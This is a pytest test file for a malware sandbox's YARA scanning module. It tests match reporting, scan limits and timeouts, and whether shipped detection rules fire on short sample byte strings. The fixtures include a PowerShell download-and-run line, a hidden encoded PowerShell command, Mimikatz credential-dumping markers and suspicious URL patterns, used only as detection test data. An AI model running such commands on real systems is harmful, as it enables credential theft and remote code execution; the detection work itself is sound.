import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lib.cuckoo.common.root import SHIPPED, find_root
from lib.cuckoo.files.rules import load_rules
from lib.cuckoo.files.scanner import (
    EXTERNAL_CHARACTERS,
    PROBLEMS_NAMED,
    STRING_KEPT_BYTES,
    STRINGS_KEPT,
    ScanLimits,
    Scanner,
    externals,
)

MakeScanner = Callable[..., Scanner]


@pytest.fixture
def scanner(tmp_path: Path) -> MakeScanner:
    def make(*sources: str, **limits: int) -> Scanner:
        folder = tmp_path / "rules"
        folder.mkdir()
        for number, source in enumerate(sources):
            (folder / f"{number:02}.yar").write_text(source)
        return Scanner("binaries", load_rules([folder], None), ScanLimits(**limits))

    return make


def test_a_match_has_the_form_of_the_sandboxes_reports(scanner: MakeScanner) -> None:
    rules = scanner(
        """
        rule Both : tag
        {
            meta:
                family = "Fam"
                score = 70
                sure = true
            strings:
                $text = "MZ"
                $wide = "ab" wide
                $never = "zzz"
            condition:
                $text or $wide or $never
        }
        """
    )

    assert rules.scan(b"..MZ..a\0b\0\xe8MZ") == [
        {
            "name": "Both",
            "meta": {"family": "Fam", "score": 70, "sure": True},
            "strings": ["MZ", "a\0b\0"],
            "addresses": {"text": 2, "wide": 6},
        }
    ]


def test_found_bytes_are_given_a_character_each_and_once(scanner: MakeScanner) -> None:
    rules = scanner('rule R { strings: $a = { E8 ?? 00 } $ = "x" condition: #a > 0 or any of them }')

    [match] = rules.scan(b"\xe8\xff\0\xe8\xff\0\xe8\xfe\0x")

    assert match["strings"] == ["\xe8\xff\0", "\xe8\xfe\0", "x"]
    assert match["addresses"] == {"a": 0, "": 9}


def test_rules_see_the_name_of_the_file(scanner: MakeScanner) -> None:
    rules = scanner(
        "rule R { condition: "
        'filename == "In.voice.EXE" and extension == ".exe" and filepath contains "Temp" and owner == "" }'
    )

    assert rules.scan(b"x", "In.voice.EXE", "C:\\Temp\\In.voice.EXE") != []
    assert rules.scan(b"x", "other.exe", "C:\\Temp\\In.voice.EXE") == []


@pytest.mark.parametrize(
    ("name", "extension"),
    [("a.TXT", ".txt"), ("a", ""), (".profile", ""), ("a.b.c", ".c"), ("a.", "."), ("", "")],
)
def test_the_extension_is_what_follows_the_last_dot(name: str, extension: str) -> None:
    assert externals(name)["extension"] == extension


@given(st.text(st.characters()), st.text(st.characters()))
def test_any_name_becomes_text_that_rules_can_take(name: str, path: str) -> None:
    for value in externals(name, path).values():
        assert len(value) <= EXTERNAL_CHARACTERS
        assert value.encode().decode() == value


def test_hostile_names_do_not_stop_a_scan(scanner: MakeScanner) -> None:
    rules = scanner("rule R { condition: filename matches /(a+)+$/ or true }")

    for name in ("\ud800", "a\0b", "a" * 100_000 + "!"):
        assert len(rules.scan(b"x", name, name)) == 1
    assert rules.problems == []


def test_a_file_is_scanned_where_it_lies(scanner: MakeScanner, tmp_path: Path) -> None:
    (tmp_path / "sample").write_bytes(bytes(5000) + b"needle")
    (tmp_path / "empty").write_bytes(b"")
    rules = scanner('rule R { strings: $a = "needle" condition: $a }')

    with (tmp_path / "sample").open("rb") as stream:
        assert rules.scan_file(stream, "sample")[0]["addresses"] == {"a": 5000}
    with (tmp_path / "empty").open("rb") as stream:
        assert rules.scan_file(stream, "empty") == []


def test_strings_are_cut_and_counted_out(scanner: MakeScanner) -> None:
    rules = scanner("rule R { strings: $a = /x[0-9]{4}/ $b = /y{500}/ condition: #a > 1 and $b }")

    [match] = rules.scan(b"".join(b"x%04d " % number for number in range(500)) + b"y" * 500)

    assert match["strings"][0] == "x0000"
    assert len(match["strings"]) == STRINGS_KEPT
    assert max(map(len, match["strings"])) <= STRING_KEPT_BYTES


def test_a_string_that_fits_everywhere_is_no_fault(scanner: MakeScanner) -> None:
    rules = scanner('rule R { strings: $a = "ab" condition: #a > 3 }')

    assert [match["strings"] for match in rules.scan(b"ab" * 1_100_000)] == [["ab"]]


def test_the_matches_beyond_the_maximum_are_counted(scanner: MakeScanner) -> None:
    source = "\n".join(f"rule R{number} {{ condition: true }}" for number in range(5))

    rules = scanner(source, matches=3)

    assert [match["name"] for match in rules.scan(b"x", "name")] == ["R0", "R1", "R2"]
    assert rules.problems == ["2 more YARA rules match name"]
    assert rules.scan(b"x", "name") != []
    assert len(rules.problems) == 1


def test_one_match_that_two_files_give_counts_once(scanner: MakeScanner) -> None:
    source = 'rule R { strings: $a = "x" condition: $a }'

    assert len(scanner(source, source).scan(b"x")) == 1


def test_a_scan_that_takes_too_long_is_given_up_and_named(scanner: MakeScanner) -> None:
    rules = scanner(
        "rule R { condition: for all i in (0..100000000) : (for all j in (0..100000000) : (i + j >= 0)) }",
        timeout_seconds=1,
    )

    assert rules.scan(b"x" * 1000, "slow.exe") == []
    assert rules.problems == ["YARA gave up on slow.exe: scanning timed out"]


def test_all_scans_together_have_a_limit(scanner: MakeScanner) -> None:
    rules = scanner("rule R { condition: true }", total_seconds=0)

    assert rules.scan(b"x") == []
    assert rules.problems == ["YARA had its 0 seconds; the rest is not scanned"]


def test_broken_files_are_named_up_to_a_limit(scanner: MakeScanner) -> None:
    rules = scanner(*["rule"] * (PROBLEMS_NAMED + 2))

    assert rules.scan(b"x") == []
    assert len(rules.problems) == PROBLEMS_NAMED + 1
    assert rules.problems[-1] == "2 more files of YARA rules are left out"


def test_the_configured_rules_are_the_shipped_ones_and_those_of_the_root(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "mine" / "binaries").mkdir(parents=True)
    (tmp_path / "mine" / "binaries" / "own.yar").write_text("rule Own { condition: true }")
    (tmp_path / "storage").mkdir()
    (tmp_path / "conf").mkdir()
    (tmp_path / "conf" / "yara.conf").write_text("[yara]\nenabled = yes\nfolder = mine\n")
    monkeypatch.setenv("FLEDGE_ROOT", str(tmp_path))
    cookie = b"\x7fELF" + b"MEI\x0c\x0b\x0a\x0b\x0e"

    scanner = Scanner.configured("binaries")

    assert [match["name"] for match in scanner.scan(cookie)] == ["PyInstaller_installer", "Own"]
    assert len(list((tmp_path / "storage" / "cache" / "yara").iterdir())) == 1


def test_a_root_that_configures_no_rules_scans_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "conf").mkdir()
    (tmp_path / "conf" / "yara.conf").write_text("[yara]\nenabled = no\n")
    monkeypatch.setenv("FLEDGE_ROOT", str(tmp_path))

    scanner = Scanner.configured("binaries")

    assert scanner.scan(b"\x7fELFMEI\x0c\x0b\x0a\x0b\x0e") == []
    assert scanner.problems == []


def test_without_yara_python_nothing_matches_and_the_reason_is_said_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "yara", None)
    monkeypatch.setenv("FLEDGE_ROOT", str(tmp_path))

    scanner = Scanner.configured("binaries")

    assert scanner.scan(EICAR) == scanner.scan(EICAR) == []
    [problem] = scanner.problems
    assert "pip install yara-python" in problem


def test_the_shipped_configuration_names_the_shipped_folder() -> None:
    assert find_root(SHIPPED).configuration("yara") == SHIPPED / "conf" / "yara.conf"


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@pytest.mark.parametrize(
    ("rule", "data"),
    [
        ("EICAR_test_file", EICAR),
        ("UPX_packed", b"MZ" + bytes(500) + b"UPX0\0\0\0\0" + b"UPX1\0" + bytes(400) + b"UPX!"),
        ("Protector_sections", b"MZ" + bytes(500) + b".vmp0\0\0\0"),
        ("NSIS_installer", b"MZ" + b"\xef\xbe\xad\xdeNullsoftInst"),
        ("Document_runs_macro_commands", b'Attribute VB_Name = "a"\nSub AutoOpen()\nShell("cmd")'),
        ("PDF_opens_with_action", b"%PDF-1.4 /OpenAction << /S /JavaScript /JS (x) >>"),
        ("RTF_updates_objects", b"{\\rtf1{\\object\\objupdate{\\*\\objdata d0cf11e0a1b11ae1}}}"),
        ("PowerShell_download_and_run", b"IEX (New-Object Net.WebClient).DownloadString('http://a')"),
        ("PowerShell_encoded_command", b"powershell.exe -w hidden -enc " + b"SQBFAFgA" * 8),
        ("Script_writes_and_runs_executable", b"MSXML2.XMLHTTP ADODB.Stream WScript.Shell .SaveToFile"),
        ("Mimikatz_program", b"sekurlsa:: lsadump:: gentilkiwi"),
        ("Mirai_program", b"\x7fELF/bin/busybox MIRAI\0/dev/misc/watchdog\0/proc/net/tcp\0"),
        ("XMRig_program", b"stratum+tcp://pool donate-level xmrig"),
        ("Ransom_note", b"All your files have been encrypted. Pay in Bitcoin, use Tor Browser."),
    ],
)
def test_a_shipped_rule_finds_what_it_is_about(rule: str, data: bytes) -> None:
    scanner = Scanner("binaries", load_rules([SHIPPED / "data" / "yara" / "binaries"], None))

    assert [match["name"] for match in scanner.scan(data, "sample")] == [rule]


@pytest.mark.parametrize(
    ("rule", "data"),
    [
        (
            "Shellcode_resolves_by_hash",
            bytes.fromhex("64a130000000") + bytes(90) + bytes.fromhex("c1cf0d01c7"),
        ),
        ("Reflective_loader", b"_ReflectiveLoader@4\0"),
        ("Meterpreter_memory", b"metsrv.dll\0core_loadlib\0"),
        ("CobaltStrike_configuration", bytes.fromhex("000100010002000000020001000201bb000300020004000003e8")),
        ("Mimikatz_memory", "sekurlsa:: lsadump:: gentilkiwi".encode("utf-16-le")),
    ],
)
def test_a_shipped_memory_rule_finds_what_it_is_about(rule: str, data: bytes) -> None:
    scanner = Scanner("memory", load_rules([SHIPPED / "data" / "yara" / "memory"], None))

    assert [match["name"] for match in scanner.scan(data)] == [rule]


@pytest.mark.parametrize(
    ("url", "rules"),
    [
        ("http://198.51.100.7:8080/x/a.exe?b", ["URL_executable_from_address"]),
        ("https://example.com@198.51.100.7/", ["URL_with_credentials"]),
        ("https://login.xn--exmple-cua.com/", ["URL_international_name"]),
        ("data:text/html;base64,AAAA", ["URL_carries_data"]),
        ("https://example.com/setup.exe?a=b@c", []),
    ],
)
def test_a_shipped_rule_about_urls_finds_what_is_odd(url: str, rules: list[str]) -> None:
    scanner = Scanner("urls", load_rules([SHIPPED / "data" / "yara" / "urls"], None))

    assert [match["name"] for match in scanner.scan(url.encode())] == rules


def test_no_shipped_rule_accuses_a_harmless_file(shared_data: Path) -> None:
    scanner = Scanner("binaries", load_rules([SHIPPED / "data" / "yara" / "binaries"], None))
    accused = []
    for path in sorted((shared_data / "binaries").glob("*/*.*")):
        if path.is_file():
            with path.open("rb") as stream:
                accused += [(path.name, match["name"]) for match in scanner.scan_file(stream, path.name)]

    assert accused == [  # both really run JavaScript when they are opened
        ("pdf0.pdf", "PDF_opens_with_action"),
        ("pdf1-stringjs.pdf", "PDF_opens_with_action"),
    ]
